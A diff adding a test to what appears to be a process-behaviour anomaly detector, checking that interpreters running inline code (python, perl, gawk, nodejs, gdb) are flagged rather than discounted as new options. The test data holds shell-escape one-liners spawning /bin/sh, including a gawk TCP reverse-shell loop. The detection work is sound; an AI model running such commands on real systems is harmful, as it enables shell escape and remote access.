@@ -321,6 +321,28 @@ t.test('rarity: new options of a program the account runs count half, unless the
   );
   t.ok(account.value > options.value + 2, `nor is sshd's fork for an account never logged in here (${account.value.toFixed(2)})`);
   t.ok(place.value > program.value, `new options that point at the accounts (${place.value.toFixed(2)}) are not discounted`);
+  // review7: the extractor generalises a version in a program's name (`python3` is
+  // `python<n>`), and awk, gdb and nodejs run code given as arguments: none is an option
+  const interpreters = [
+    ['/usr/bin/python<n>', 'python3 manage.py test', "python3 -c import pty;pty.spawn('/bin/sh')"],
+    ['/usr/bin/perl<n>.<n>', 'perl5.36 report.pl', "perl5.36 -e exec '/bin/sh'"],
+    ['/usr/bin/gawk', 'gawk {print $2} access.log', 'gawk BEGIN{s="/inet/tcp/<*>/<*>/<*>";while(1){s|&getline c;print c|&s}}'],
+    ['/usr/bin/nodejs', 'nodejs server.js', "nodejs -e require('child_process').spawn('/bin/sh')"],
+    ['/usr/bin/gdb', 'gdb ./app core', "gdb -nx -ex python import os;os.system('/bin/sh') -ex quit"],
+  ];
+  const withTools = createModel('rarity');
+  const more = interpreters.map(([exe, cmd]) => ['dana', exe, '/bin/bash', cmd]);
+  const train2: BehaviourEvent[] = [];
+  for (let d = 0; d < 10; d++)
+    for (let i = 0; i < 200; i++) {
+      const r = [...routine, ...more][i % (routine.length + more.length)] as [string, string, string, string];
+      train2.push(proc(...r, start + d * DAY + i * 60));
+    }
+  await withTools.fit(train2.map((e) => [e]));
+  for (const [exe, , attack] of interpreters) {
+    const s = (await withTools.score([{ event: proc('dana', exe, '/bin/bash', attack, at), context: [] }]))[0];
+    t.notMatch(s.detail, /new options of a known program/, `${exe}'s new code is not new options (${s.value.toFixed(2)}: ${s.detail})`);
+  }
 });
 
 /** hashEvent as it was written first: each token built as a string, hashed whole, summed in a Map */
